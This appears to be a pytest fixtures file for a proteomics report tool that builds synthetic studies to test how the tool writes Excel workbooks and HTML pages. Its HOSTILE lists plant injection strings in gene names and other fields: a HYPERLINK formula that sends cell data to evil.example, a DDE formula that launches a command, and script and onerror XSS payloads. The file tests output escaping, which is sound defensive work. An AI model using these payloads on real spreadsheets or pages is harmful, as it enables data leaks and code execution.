"""A made study: every file that the step `report` reads, in the shape of the contract."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

from myosieve import files, schema
from myosieve.report import page, step
from myosieve.report.content import Content
from myosieve.report.step import report

CLASSES = ("classical", "shed", "gpi_anchored", "annotated", "unconventional", "er_resident", "membrane",
           "intracellular", "unknown")  # fmt: skip
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(2)>",
    "1-Mar",
    "MARCHF1",
    "SEPTIN2",
    "\"quoted\" & 'single'",
    "\u202eright to left",
    "\u05d7\u05dc\u05d1\u05d5\u05df",
    "muscle \U0001f4aa",
    "+1+1",
    "@SUM(A1)",
    "007",
    "NA",
    "${{7*7}}",
)


@dataclass
class Study:
    """The arguments of `report`, with the paths of the made files."""

    arguments: dict[str, Any]

    @property
    def xlsx(self) -> Path:
        return self.arguments["xlsx"]

    @property
    def html(self) -> Path:
        return self.arguments["html"]

    def frame(self, name: str, table: schema.Table) -> pd.DataFrame:
        return files.read_table(self.arguments[name], table)

    def rewrite(self, name: str, frame: pd.DataFrame) -> None:
        files.write_table(self.arguments[name], frame)

    def told(self) -> dict[str, Any]:
        return files.read_json(self.arguments["provenance"])


def make_study(
    folder: Path,
    n_proteins: int = 300,
    contrasts: tuple[str, ...] = ("eps_vs_rest", "old_vs_young", "1h"),
    conditions_of_study: tuple[str, ...] = ("rest", "eps"),
    replicates: int = 4,
):
    """Write a study of `n_proteins` protein groups; the first ones carry hostile names."""
    random = np.random.default_rng(7)
    proteins = _proteins(random, n_proteins)
    samples = [f"{condition}_{i}" for condition in conditions_of_study for i in range(1, replicates + 1)]
    conditions = [name.rpartition("_")[0] for name in samples]
    sheet = pd.DataFrame({"sample": samples, "column": samples, "condition": conditions, "fraction": "secretome"})
    values = random.normal(25, 2, (n_proteins, 1)) + random.normal(0, 0.4, (n_proteins, len(samples)))
    values[random.random(values.shape) < 0.08] = np.nan
    quality = pd.DataFrame({
        "sample": samples, "condition": conditions, "n_proteins": np.isfinite(values).sum(axis=0),
        "missing": np.isnan(values).mean(axis=0), "median_log2": np.nanmedian(values, axis=0),
        "shift": random.normal(0, 0.1, len(samples)), "leak_index": random.normal(0, 0.3, len(samples)),
        "serum_share": random.uniform(0.01, 0.2, len(samples)),
        "outlier": [None] * (len(samples) - 1) + ["leak index 3 MAD above"],
    }).reindex(columns=schema.SAMPLES_QC.names)  # fmt: skip
    tests = pd.concat([_tests(random, proteins, name) for name in contrasts], ignore_index=True)
    annotation = proteins[["protein_group", "accession", "gene", "organism"]].assign(
        **{name: None for name in schema.ANNOTATION.names[4:] if not name.startswith("secretion")},
        secretion_class=random.choice(CLASSES, n_proteins, p=(0.2, 0.1, 0.03, 0.05, 0.05, 0.05, 0.1, 0.3, 0.12)),
        secretion_reason="signal peptide 1-22 (embedded scan)",
    )
    ranked = pd.concat(
        [_candidates(random, rows, proteins, annotation) for _, rows in tests.groupby("contrast", sort=False)]
    )

    folder.mkdir(parents=True, exist_ok=True)
    quantified = folder / "quantified"
    quantified.mkdir(exist_ok=True)
    files.write_table(quantified / "proteins.tsv", schema.QUANTIFIED.arrange(proteins))
    intensities = pd.DataFrame(values, columns=samples)
    intensities.insert(0, "protein_group", proteins["protein_group"])
    files.write_table(quantified / "intensities.tsv", intensities)
    files.write_table(quantified / "log2.tsv", intensities)
    tables = {
        "candidates": (schema.CANDIDATES, ranked), "differential": (schema.DIFFERENTIAL, tests),
        "annotation": (schema.ANNOTATION, annotation), "samples_qc": (schema.SAMPLES_QC, quality),
        "samples": (schema.SAMPLES, sheet), "sensitivity": (schema.SENSITIVITY, _sensitivity(contrasts)),
        "validation": (schema.VALIDATION, made_validation(contrasts)),
    }  # fmt: skip
    paths = {name: folder / f"{name}.tsv" for name in tables}
    for name, (table, frame) in tables.items():
        files.write_table(paths[name], table.arrange(frame))
    files.write_json(folder / "provenance.json", _provenance(contrasts))
    return Study({
        "study": "made", **paths, "quantified": quantified, "provenance": folder / "provenance.json",
        "settings": {"fdr": 0.05, "report": {"title": "EPS secretome <made>", "top": 25}},
        "xlsx": folder / "candidates.xlsx", "html": folder / "report.html",
    })  # fmt: skip


def _sensitivity(contrasts: tuple[str, ...]) -> pd.DataFrame:
    numbers = dict.fromkeys(("hits", "up", "down", "shared", "gained", "lost", "sign_flips"), 3)
    rows = [
        {"contrast": contrast, "normalization": method, "chosen": "yes" if method == "median" else "no", **numbers,
         "jaccard": 0.33, "median_log2fc": 0.01}
        for contrast in contrasts for method in ("median", "none", "reference")
    ]  # fmt: skip
    return pd.DataFrame(rows)


def made_validation(contrasts: tuple[str, ...]) -> pd.DataFrame:
    """Rows of every analysis, with numbers that are told apart by eye."""
    orders = ("score", "score_experiment", "score_prior", "p_value", "abs_log2fc", "fame")
    rows = []
    for contrast in contrasts:

        def add(
            analysis,
            measure,
            predictor,
            value,
            low=None,
            high=None,
            p=None,
            n=6,
            of=120,
            note="as made",
            contrast=contrast,
        ):
            rows.append((contrast, analysis, measure, predictor, value, low, high, p, n, of, note))

        for place, order in enumerate(orders):
            for analysis in ("recovery", "recovery_core", "fame_matched"):
                add(analysis, "auroc", order, 0.81 - place / 100, 0.6, 0.9, 0.001)
            for k in (25, 50):
                add("recovery", f"recovered@{k}", order, 4.0)
                add("recovery", f"enrichment@{k}", order, 3.2, 1.1, 6.0, 0.01)
            for i in range(6):
                note = f"GENE{i}, P0000{i}, myokine {i}, core list"
                add("leave_one_out", "percentile", order, 0.9 - i / 10 - place / 100, note=note)
        for rival in ("fame", "p_value"):
            add("recovery", "auroc_difference", f"score - {rival}", 0.05, -0.1, 0.2, 0.4)
        for name, order in (("hits", "p_value"), ("mean_top25", "score_experiment"), ("auroc", "score_experiment")):
            add("permutation", name, order, 41.0, p=0.004, note="251 permutations")
            add("permutation", f"{name}_null", order, 3.0, 0.0, 9.0)
        for order in ("score", "score_prior"):
            add("prior_shuffle", "auroc", order, 0.8, p=0.005)
            add("prior_shuffle", "auroc_null", order, 0.6, 0.5, 0.7)
        add("base_rate", "secreted", "hits", 4.0, 2.0, 8.0, 1e-4, note="20 of 30 chosen, 60 of 270 others")
    return pd.DataFrame(rows, columns=schema.VALIDATION.names)


def _proteins(random: np.random.Generator, n: int) -> pd.DataFrame:
    letters = np.array(list("ABCDEFGHIJKLMNOPRSTUVWXYZ"))
    genes = ["".join(random.choice(letters, 4)) + str(i % 10) for i in range(n)]
    genes[: len(HOSTILE)] = HOSTILE
    accessions = [f"P{i % 100000:05d}" for i in range(n)]
    return pd.DataFrame({
        "protein_group": [f"{a};Q{i % 100000:05d}" for i, a in enumerate(accessions)], "accession": accessions,
        "accessions": accessions, "gene": genes, "protein_name": [f"Made protein {gene}" for gene in genes],
        "organism": "Homo sapiens", "peptides": random.integers(1, 30, n), "unique_peptides": 1, "decoy": "no",
        "contaminant": "no", "contaminant_by": "", "only_by_site": "no", "excluded_because": None,
    })  # fmt: skip


def _tests(random: np.random.Generator, proteins: pd.DataFrame, contrast: str) -> pd.DataFrame:
    n = len(proteins)
    changed = random.random(n) < 0.25
    fold = random.normal(0, 0.25, n) + changed * random.normal(0.6, 1.1, n)
    error = random.uniform(0.12, 0.35, n)
    t = fold / error
    p = np.minimum(1.0, np.exp(-0.75 * np.abs(t) ** 1.25))
    order = np.argsort(p)
    q = np.empty(n)
    q[order] = np.minimum.accumulate((p[order] * n / np.arange(1, n + 1))[::-1])[::-1]
    frame = proteins[["protein_group", "accession", "gene"]].assign(
        contrast=contrast, log2fc=fold, ci_low=fold - 2.2 * error, ci_high=fold + 2.2 * error, se=error, t=t, df=9.3,
        p_value=p, log10_p=np.log10(p), q_value=q, log2fc_bound="no", imputed_share=0.0,
        mean_log2=25.0, n_treatment=4, n_control=4, of_treatment=4, of_control=4,
        test="moderated_t", note=None,
    )  # fmt: skip
    only = frame.index[-max(3, n // 50) :]
    frame.loc[only, ["log2fc", "ci_low", "ci_high", "se", "t", "df", "p_value", "log10_p", "q_value"]] = np.nan
    frame.loc[only, ["test", "note"]] = ["none", "seen in the treatment only"]
    return frame


def _candidates(
    random: np.random.Generator, tests: pd.DataFrame, proteins: pd.DataFrame, annotation: pd.DataFrame
) -> pd.DataFrame:
    n = len(tests)
    frame = tests[["contrast", "gene", "accession", "protein_group", "log2fc", "ci_low", "ci_high", "q_value", "test",
                   "n_treatment", "n_control"]].reset_index(drop=True)  # fmt: skip
    score = np.where(frame["q_value"].fillna(1) < 0.2, random.uniform(0.2, 0.9, n), random.uniform(0.01, 0.3, n))
    score[: len(HOSTILE)] = 0.99
    leak = random.choice(np.array(["", "follows leak", "marker"], dtype=object), n, p=(0.8, 0.15, 0.05))
    excluded = random.choice(np.array(["", "fewer than 2 peptides", "leak marker"], dtype=object), n, p=(0.7, 0.2, 0.1))
    excluded[: len(HOSTILE)] = ""
    frame[[name for name in schema.CANDIDATES.names if name not in frame]] = None
    frame = frame.assign(
        protein_name=proteins["protein_name"].to_numpy(), peptides=proteins["peptides"].to_numpy(),
        secretion_class=annotation["secretion_class"].to_numpy(), direction=np.where(frame["log2fc"] < 0, "down", "up"),
        secretion_reason="signal peptide 1-22 (embedded scan)", score=score, score_experiment=score, score_prior=score,
        d_effect=random.random(n), d_secretion=random.random(n), leak_flag=leak, excluded_because=excluded,
    ).replace({"leak_flag": {"": None}, "excluded_because": {"": None}})  # fmt: skip
    frame.loc[3, "known_myokine"] = "Interleukin-6"
    frame["reason"] = [
        f"Log2FC {fold:+.2f} in 8 of 8 samples and a signal peptide carry it; no receptor is known, and its level "
        f"moves with the leak index (r = {r:.2f})."
        for fold, r in zip(frame["log2fc"], random.random(n), strict=True)
    ]
    keep = frame["excluded_because"].isna()
    rank = (-score[keep]).argsort(kind="stable").argsort() + 1
    frame.loc[keep, "rank"] = rank
    frame.loc[keep, "rank_low"] = np.maximum(1, rank - 3)
    frame.loc[keep, "rank_high"] = rank + 5
    frame.loc[keep, "confidence"] = np.where(frame["q_value"] <= 0.05, random.choice(["high", "medium"], n), "low")[
        keep
    ]
    frame.loc[~keep, ["score", "score_experiment", "score_prior", "reason"]] = None
    return frame


def _provenance(contrasts: tuple[str, ...]) -> dict[str, Any]:
    def step(stage: str, settings: dict[str, Any], methods: list[str], warnings: list[str], counts: dict[str, Any]):
        return {"stage": stage, "myosieve": "0.1.0", "settings": settings, "inputs": {f"{stage}.tsv": "ab" * 32},
                "methods": methods, "warnings": warnings, "counts": counts, "seeds": {}, "seconds": 0.1}  # fmt: skip

    definitions: dict[str, Any] = {name: {"treatment": "eps", "control": "rest"} for name in contrasts}
    definitions[contrasts[-1]] = "(eps_old - rest_old) - (eps_young - rest_young)"
    steps = [
        step("intake", {"format": "auto", "quantity": "lfq"}, ["The table was read as MaxQuant."], [], {"groups": 300}),
        step("quantify", {"normalization": "median", "filter": {"min_valid": 2}}, ["Log2 values were shifted."],
             ["The medians of the conditions differ by 1.2 log2 units: <b>normalization</b> may hide a global change."],
             {"decoys": 3}),
        step("differential", {"design": "~ condition", "contrasts": definitions}, ["Moderated t (Smyth 2004)."], [], {}),
        step("rank", {"fdr": 0.05, "ranking": {"profile": "default"}}, ["Ranked by desirability."], [], {}),
    ]  # fmt: skip
    return {
        "study": "made", "myosieve": "0.1.0", "python": "3.11.7", "libraries": {"numpy": "2.4.6", "plotly": "7.1.0"},
        "inputs": {"data/proteinGroups.txt": "cd" * 32}, "seeds": {"ranking": 1},
        "warnings": [text for one in steps for text in one["warnings"]], "steps": steps,
    }  # fmt: skip


@pytest.fixture(scope="session")
def reported(tmp_path_factory: pytest.TempPathFactory) -> Study:
    """A study of 300 protein groups and three contrasts with its workbook and page; not to be changed."""
    made = make_study(tmp_path_factory.mktemp("reported"))
    report(**made.arguments)
    return made


@pytest.fixture
def small_study(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Study]:
    """Make a study of 40 protein groups and one contrast; its page lacks the two libraries, five megabytes to parse."""
    monkeypatch.setattr(page, "_plotly", str)
    monkeypatch.setattr(page, "_table_library", str)
    return lambda name="small": make_study(tmp_path / name, 40, ("eps_vs_rest",))


@pytest.fixture
def hostile_names() -> tuple[str, ...]:
    """Genes that look like formulas, dates, numbers or markup; every made study has them, ranked first."""
    return HOSTILE


# What spreadsheets turn into something else, or cannot hold: formulas, dates, numbers, blanks, Excel's own escapes, markup.
HOSTILE_TEXTS = (
    *HOSTILE, "=cmd|' /C calc'!A0", "+1", "@SUM", "-2", "{=1+1}", "\t=1", "\r=1", "'apostrophe", "SEPT2", "2310009E13", "1e5",
    "TRUE", "NULL", "#N/A", "#REF!", "inf", "nan", "2020-01-01", "1/2", "$5", "5 %", "  blanks in front", "blanks behind  ",
    " ", "two\nlines", "carriage\rreturn", "carriage\r\nreturn", "\x85\x7f", "bell\x07",
    "".join(map(chr, range(9))) + "\x0b\x0c\x0e\x1f", "_x000D_", "_x0041_x0042_", "_x005F_x0041_", "_x00e9_", "_X0041_",
    "<r><t>markup</t></r>", "<r>&</r>", "]]>", "&amp;",
)  # fmt: skip
LONG_TEXTS = ("x" * 32_767, "x" * 32_768, "\U0001f4aa" * 20_000, "=" * 40_000)
HOSTILE_CONTRASTS = ("eps [1h]: a*b?/c\\d against rest, 24 hours", "eps [1h]: a*b?/c\\d against rest, 48 hours",
                     "it's " + "x" * 25 + "'yz", "History", "READ me", "\U0001f4aa" * 20, "_x0041_", "A", "=1+1",
                     "bell\x07")  # fmt: skip


def made_rows(table: schema.Table, seed: int) -> pd.DataFrame:
    """Return rows of a table: hostile texts in every column of text, numbers of every size, gaps everywhere."""
    random = np.random.default_rng(seed)
    n = len(HOSTILE_TEXTS)
    frame = {}
    for shift, column in enumerate(table.columns):
        gap = random.random(n) < 0.1
        if column.kind == schema.NUMBER:
            values = random.normal(size=n) * 10.0 ** random.integers(-300, 300, n)
            values[:4] = (0.0, np.inf, -np.inf, 0.1 + 0.2)
            frame[column.name] = np.where(gap, np.nan, values)
        elif column.kind == schema.COUNT:
            frame[column.name] = np.where(gap, np.nan, random.integers(0, 1_000_000, n).astype(float))
        else:
            texts = pd.Series([*HOSTILE_TEXTS[shift % n :], *HOSTILE_TEXTS[: shift % n]], dtype="str")
            frame[column.name] = texts.mask(gap)
    return pd.DataFrame(frame)


@pytest.fixture(scope="session")
def hostile_content(tmp_path_factory: pytest.TempPathFactory) -> Content:
    """What a workbook says of a study whose every text is hostile; it has every table that a study can have."""
    arguments = make_study(tmp_path_factory.mktemp("hostile"), 40, ("eps_vs_rest",)).arguments
    content = step._read(**{name: value for name, value in arguments.items() if name not in ("xlsx", "html")})
    contrasts = []
    for seed, name in enumerate(HOSTILE_CONTRASTS):
        rows = made_rows(schema.CANDIDATES, seed).assign(contrast=name)
        rows["rank"] = np.where(rows.index < len(rows) // 2, rows.index + 1.0, np.nan)
        rows.loc[::5, "accession"] = "P05231"
        rows.loc[: len(LONG_TEXTS) - 1, "protein_name"] = LONG_TEXTS if seed == 0 else None
        contrasts.append(
            replace(
                content.contrasts[0], name=name, ranked=rows[rows["rank"].notna()], excluded=rows[rows["rank"].isna()]
            )
        )
    settings = pd.DataFrame({name: pd.Series(HOSTILE_TEXTS, dtype="str") for name in ("stage", "name", "value")})
    return replace(
        content, title="title\x07 & <b>_x0041_</b>", study="=1+1\x01", contrasts=tuple(contrasts), settings=settings,
        warnings=HOSTILE_TEXTS, methods=(("=stage", HOSTILE_TEXTS),), differential=made_rows(schema.DIFFERENTIAL, 1),
        crosstalk=made_rows(schema.CROSSTALK, 2), pathways=made_rows(schema.STUDY_PATHWAYS, 3),
        facts=made_rows(schema.STUDY_FACTS, 4), leak_tests=made_rows(schema.LEAK_TESTS, 5),
        samples_qc=made_rows(schema.SAMPLES_QC, 6).assign(**{"=LDH\x07": 0.25, "cells": 7}),
        sensitivity=made_rows(schema.SENSITIVITY, 7), validation=made_rows(schema.VALIDATION, 8),
    )  # fmt: skip


@pytest.fixture
def small_content(small_study: Callable[..., Study]) -> Callable[..., Content]:
    """Gather what a small study says, with changes to it."""
    arguments = small_study().arguments
    content = step._read(**{name: value for name, value in arguments.items() if name not in ("xlsx", "html")})
    return lambda **changes: replace(content, **changes)
